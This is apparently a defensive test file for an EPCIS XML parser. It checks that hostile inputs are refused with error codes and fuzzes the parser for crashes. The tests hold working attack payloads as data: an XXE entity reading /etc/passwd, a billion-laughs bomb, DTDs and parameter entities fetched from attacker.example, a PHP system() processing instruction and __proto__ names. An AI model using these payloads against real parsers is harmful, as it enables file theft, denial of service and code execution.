/**
 * Hostile EPCIS XML (docs/security.md; docs/epcis-xml.md, "Hostile input"): external entities
 * (XXE), entity expansion ("billion laughs"), DTDs, processing instructions, oversized and
 * deeply nested input, forbidden characters and names are refused with a code, and no input
 * whatever makes the converter throw (fast-check over arbitrary text, XML-like token soup and
 * mutations of GS1's examples).
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { canonicalize } from '../../../ledger/encoding/canonical-json.js';
import { EPCIS_XML_LIMITS, parseEpcisXml, type EpcisXmlLimits, type EpcisXmlParse } from '../../../api/epcis-xml/index.js';
import { GS1_DIRECTORY } from '../../support/fixtures.js';

const HEAD = '<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" xmlns:ex="https://example.com/ex/" schemaVersion="2.0" creationDate="2020-01-01T00:00:00Z">';
const TAIL = '</epcis:EPCISDocument>';

function documentWithEvent(extension: string): string {
  return `${HEAD}<EPCISBody><EventList><ObjectEvent><eventTime>2020-01-01T00:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset><epcList/><action>OBSERVE</action>${extension}</ObjectEvent></EventList></EPCISBody>${TAIL}`;
}

function problemCode(result: EpcisXmlParse): string {
  return result.ok ? 'ok' : result.problem.code;
}

function limited(overrides: Partial<EpcisXmlLimits>): EpcisXmlLimits {
  return { ...EPCIS_XML_LIMITS, ...overrides };
}

describe('entities and document type declarations', () => {
  it('refuses an external entity (XXE) and never reads the file', () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE epcis:EPCISDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${documentWithEvent('<ex:leak>&xxe;</ex:leak>')}`;
    const result = parseEpcisXml(xxe);
    expect(result).toEqual({ ok: false, problem: { code: 'doctype-refused', message: expect.stringContaining('document type declarations are not accepted') } });
    expect(JSON.stringify(result)).not.toContain('root:x:');
  });

  it('refuses the billion laughs before expanding anything', () => {
    const levels = Array.from({ length: 9 }, (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level};`.repeat(10)}">`).join('');
    const bomb = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${levels}]>${documentWithEvent('<ex:bomb>&lol9;</ex:bomb>')}`;
    const result = parseEpcisXml(bomb);
    expect(problemCode(result)).toBe('doctype-refused');
    expect(JSON.stringify(result)).not.toContain('lollol');
  });

  it('refuses external DTDs, parameter entities and declarations outside a DOCTYPE', () => {
    expect(problemCode(parseEpcisXml(`<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">${documentWithEvent('')}`))).toBe('doctype-refused');
    expect(problemCode(parseEpcisXml(`<!DOCTYPE x PUBLIC "-//X//Y" "x.dtd">${documentWithEvent('')}`))).toBe('doctype-refused');
    expect(problemCode(parseEpcisXml(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>${documentWithEvent('')}`))).toBe('doctype-refused');
    expect(problemCode(parseEpcisXml(`<!ENTITY e "x">${documentWithEvent('')}`))).toBe('doctype-refused');
    expect(problemCode(parseEpcisXml(`<!doctype x>${documentWithEvent('')}`))).toBe('doctype-refused');
    // A DOCTYPE after the root element is not a prolog at all.
    expect(problemCode(parseEpcisXml(`${documentWithEvent('')}<!DOCTYPE x>`))).toBe('doctype-refused');
  });

  it('accepts a DOCTYPE that declares nothing, as GS1 examples carry, and only that', () => {
    expect(problemCode(parseEpcisXml(`<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE project>\n${documentWithEvent('')}`))).toBe('ok');
    expect(problemCode(parseEpcisXml(`<!DOCTYPE project []>${documentWithEvent('')}`))).toBe('doctype-refused');
    expect(problemCode(parseEpcisXml(`<!DOCTYPE project><!DOCTYPE again>${documentWithEvent('')}`))).toBe('doctype-refused');
  });

  it('refuses references to entities nobody declared, and decodes only the predefined ones and character references', () => {
    expect(problemCode(parseEpcisXml(documentWithEvent('<ex:value>&xxe;</ex:value>')))).toBe('entity-refused');
    expect(problemCode(parseEpcisXml(documentWithEvent('<ex:value a="&nbsp;">x</ex:value>')))).toBe('entity-refused');
    const decoded = parseEpcisXml(documentWithEvent('<ex:value note="a&quot;b&#x9;c">&lt;&amp;&gt;&apos;&#65;&#x1F600;<![CDATA[&amp;<raw>]]></ex:value>'));
    expect(decoded.ok && decoded.document['epcisBody']).toEqual({
      eventList: [expect.objectContaining({ 'ex:value': { note: 'a"b\tc', '#text': "<&>'A\u{1F600}&amp;<raw>" } })],
    });
  });
});

describe('processing instructions and declarations', () => {
  it('refuses processing instructions anywhere, and an XML declaration that is not first or not UTF-8', () => {
    expect(problemCode(parseEpcisXml(`<?xml-stylesheet href="http://attacker.example/x.xsl"?>${documentWithEvent('')}`))).toBe('processing-instruction-refused');
    expect(problemCode(parseEpcisXml(documentWithEvent('<?php system("id"); ?>')))).toBe('processing-instruction-refused');
    expect(problemCode(parseEpcisXml(` <?xml version="1.0"?>${documentWithEvent('')}`))).toBe('processing-instruction-refused');
    expect(problemCode(parseEpcisXml(`<?xml version="1.0" encoding="UTF-16"?>${documentWithEvent('')}`))).toBe('malformed-xml');
    expect(problemCode(parseEpcisXml(`\uFEFF<?xml version="1.0" encoding="utf-8" standalone="no"?>${documentWithEvent('')}`))).toBe('ok');
  });
});

describe('bounds', () => {
  it('refuses more bytes than bytesMax, counting UTF-8 bytes, not characters', () => {
    const document = documentWithEvent('<ex:note>ééé</ex:note>');
    const bytes = Buffer.byteLength(document, 'utf8');
    expect(problemCode(parseEpcisXml(document, limited({ bytesMax: bytes })))).toBe('ok');
    expect(problemCode(parseEpcisXml(document, limited({ bytesMax: bytes - 1 })))).toBe('too-large');
  });

  it('refuses nesting deeper than depthMax before parsing, even in a document far too deep for a recursive parser', () => {
    const deep = (levels: number) => documentWithEvent(`${'<ex:a>'.repeat(levels)}x${'</ex:a>'.repeat(levels)}`);
    // EPCISDocument, EPCISBody, EventList, ObjectEvent: the extension starts at level 5.
    expect(problemCode(parseEpcisXml(deep(10), limited({ depthMax: 14 })))).toBe('ok');
    expect(problemCode(parseEpcisXml(deep(11), limited({ depthMax: 14 })))).toBe('too-deep');
    expect(problemCode(parseEpcisXml(deep(100_000)))).toBe('too-deep');
    expect(problemCode(parseEpcisXml(`${'<a>'.repeat(200_000)}`))).toBe('too-deep');
  });

  it('refuses more elements than elementsMax, more attributes than attributesPerElementMax, and text longer than textLengthMax', () => {
    const items = (count: number) => documentWithEvent(`<ex:list>${'<ex:item>1</ex:item>'.repeat(count)}</ex:list>`);
    // 6 elements around the list (EPCISDocument, EPCISBody, EventList, ObjectEvent, its 4 members) and the list itself.
    expect(problemCode(parseEpcisXml(items(10), limited({ elementsMax: 19 })))).toBe('ok');
    expect(problemCode(parseEpcisXml(items(11), limited({ elementsMax: 19 })))).toBe('too-many-elements');
    const attributes = (count: number) => documentWithEvent(`<ex:wide ${Array.from({ length: count }, (_, index) => `a${index}="v"`).join(' ')}/>`);
    expect(problemCode(parseEpcisXml(attributes(5), limited({ attributesPerElementMax: 5 })))).toBe('ok');
    expect(problemCode(parseEpcisXml(attributes(6), limited({ attributesPerElementMax: 5 })))).toBe('too-many-attributes');
    expect(problemCode(parseEpcisXml(documentWithEvent(`<ex:long>${'x'.repeat(100)}</ex:long>`), limited({ textLengthMax: 100 })))).toBe('ok');
    expect(problemCode(parseEpcisXml(documentWithEvent(`<ex:long>${'x'.repeat(101)}</ex:long>`), limited({ textLengthMax: 100 })))).toBe('text-too-long');
    expect(problemCode(parseEpcisXml(documentWithEvent(`<ex:long a="${'x'.repeat(101)}"/>`), limited({ textLengthMax: 100 })))).toBe('text-too-long');
  });
});

describe('characters, names and syntax', () => {
  it('refuses characters XML forbids, raw or as references, and lone surrogates', () => {
    expect(problemCode(parseEpcisXml(documentWithEvent('<ex:c>\u0001</ex:c>')))).toBe('invalid-character');
    expect(problemCode(parseEpcisXml(documentWithEvent('<ex:c>&#1;</ex:c>')))).toBe('invalid-character');
    expect(problemCode(parseEpcisXml(documentWithEvent('<ex:c>&#xD800;</ex:c>')))).toBe('invalid-character');
    expect(problemCode(parseEpcisXml(documentWithEvent('<ex:c>\uD800</ex:c>')))).toBe('invalid-character');
    expect(problemCode(parseEpcisXml(documentWithEvent('<ex:c>&#x110000;</ex:c>')))).toBe('invalid-character');
  });

  it('refuses the names that would reach an object prototype, and keeps other JavaScript-ish names as written', () => {
    expect(problemCode(parseEpcisXml(documentWithEvent('<__proto__>x</__proto__>')))).toBe('reserved-name');
    expect(problemCode(parseEpcisXml(documentWithEvent('<ex:__proto__>x</ex:__proto__>')))).toBe('reserved-name');
    expect(problemCode(parseEpcisXml(documentWithEvent('<ex:a constructor="x"/>')))).toBe('reserved-name');
    const kept = parseEpcisXml(documentWithEvent('<ex:toString hasOwnProperty="1">x</ex:toString>'));
    expect(kept.ok && (kept.document['epcisBody'] as { eventList: Array<Record<string, unknown>> }).eventList[0]!['ex:toString']).toEqual({ hasOwnProperty: '1', '#text': 'x' });
  });

  it('refuses malformed XML: "<" in attribute values, crossed tags, unbound prefixes, two roots', () => {
    expect(problemCode(parseEpcisXml(documentWithEvent('<ex:a b="<!DOCTYPE"/>')))).toBe('malformed-xml');
    expect(problemCode(parseEpcisXml(documentWithEvent('<ex:a><ex:b></ex:a></ex:b>')))).toBe('malformed-xml');
    expect(problemCode(parseEpcisXml(documentWithEvent('<nope:a/>')))).toBe('unbound-prefix');
    expect(problemCode(parseEpcisXml(`${documentWithEvent('')}${documentWithEvent('')}`))).toBe('malformed-xml');
    expect(problemCode(parseEpcisXml(''))).toBe('malformed-xml');
  });
});

// Every code a refusal may carry; internal-error (a bug) must never come back.
const EXPECTED_CODES = new Set([
  'too-large', 'too-deep', 'too-many-elements', 'too-many-attributes', 'text-too-long', 'invalid-character', 'doctype-refused',
  'processing-instruction-refused', 'entity-refused', 'malformed-xml', 'unbound-prefix', 'reserved-name', 'not-epcis',
  'unknown-element', 'repeated-element', 'mixed-content', 'unsupported-event-type',
]);

function checkTotal(xml: string): void {
  let result: EpcisXmlParse;
  try {
    result = parseEpcisXml(xml);
  } catch (error) {
    throw new Error(`threw ${String(error)} on ${JSON.stringify(xml.slice(0, 300))}`);
  }
  if (result.ok) {
    // Whatever comes out can be hashed and signed: RFC 8785 accepts it.
    canonicalize(result.document);
  } else if (!EXPECTED_CODES.has(result.problem.code)) {
    throw new Error(`code ${result.problem.code} (${result.problem.message}) on ${JSON.stringify(xml.slice(0, 300))}`);
  }
}

const TOKENS = [
  '<', '>', '</', '/>', '<!--', '-->', '<![CDATA[', ']]>', '<!DOCTYPE x>', '<!ENTITY e "x">', '<?x?>', '&amp;', '&', '&#x41;', '&#0;', '&e;', '"', "'", '=', ' ',
  'a', 'ex:', 'xmlns:ex="urn:x"', 'xmlns="urn:epcglobal:epcis:xsd:2"', 'xsi:type="xsd:integer"', 'xsi:nil="true"', 'EPCISDocument', 'epcis:', 'EPCISBody', 'EventList',
  'ObjectEvent', 'extension', 'baseExtension', 'epcList', 'epc', 'quantity', 'sensorReport', 'type="gs1:Temperature"', '__proto__', '\u0000', '\uD800', 'é',
];

const fixtures = [...readdirSync(join(GS1_DIRECTORY, 'xml')).filter((name) => name.endsWith('.xml')).map((name) => join(GS1_DIRECTORY, 'xml', name))].map((path) => readFileSync(path, 'utf8'));

describe('totality', () => {
  it('never throws on arbitrary text', () => {
    // Any UTF-16 code units, lone surrogates included (fast-check's 'binary' unit is slow to generate).
    const codeUnits = fc.array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 300 }).map((units) => String.fromCharCode(...units));
    fc.assert(fc.property(fc.oneof(fc.string({ maxLength: 300 }), codeUnits), checkTotal), { numRuns: 500 });
  });

  it('never throws on XML-like token soup, wrapped in an EPCIS document or not', () => {
    const soup = fc.array(fc.constantFrom(...TOKENS), { maxLength: 60 }).map((tokens) => tokens.join(''));
    fc.assert(fc.property(soup, fc.boolean(), (text, wrap) => checkTotal(wrap ? documentWithEvent(text) : text)), { numRuns: 400 });
  });

  it("never throws on mutations of GS1's examples", () => {
    const mutation = fc.record({
      fixture: fc.nat(fixtures.length - 1),
      at: fc.nat(),
      length: fc.nat(40),
      insert: fc.oneof(fc.constantFrom(...TOKENS), fc.string({ maxLength: 8 })),
      kind: fc.constantFrom('delete', 'insert', 'replace', 'duplicate'),
    });
    fc.assert(
      fc.property(fc.array(mutation, { minLength: 1, maxLength: 4 }), (mutations) => {
        let text = fixtures[mutations[0]!.fixture]!;
        for (const { at, length, insert, kind } of mutations) {
          const start = at % (text.length + 1);
          const end = Math.min(text.length, start + length);
          if (kind === 'delete') text = text.slice(0, start) + text.slice(end);
          else if (kind === 'insert') text = text.slice(0, start) + insert + text.slice(start);
          else if (kind === 'replace') text = text.slice(0, start) + insert + text.slice(end);
          else text = text.slice(0, end) + text.slice(start, end) + text.slice(end);
        }
        checkTotal(text);
      }),
      { numRuns: 400 },
    );
  });
});
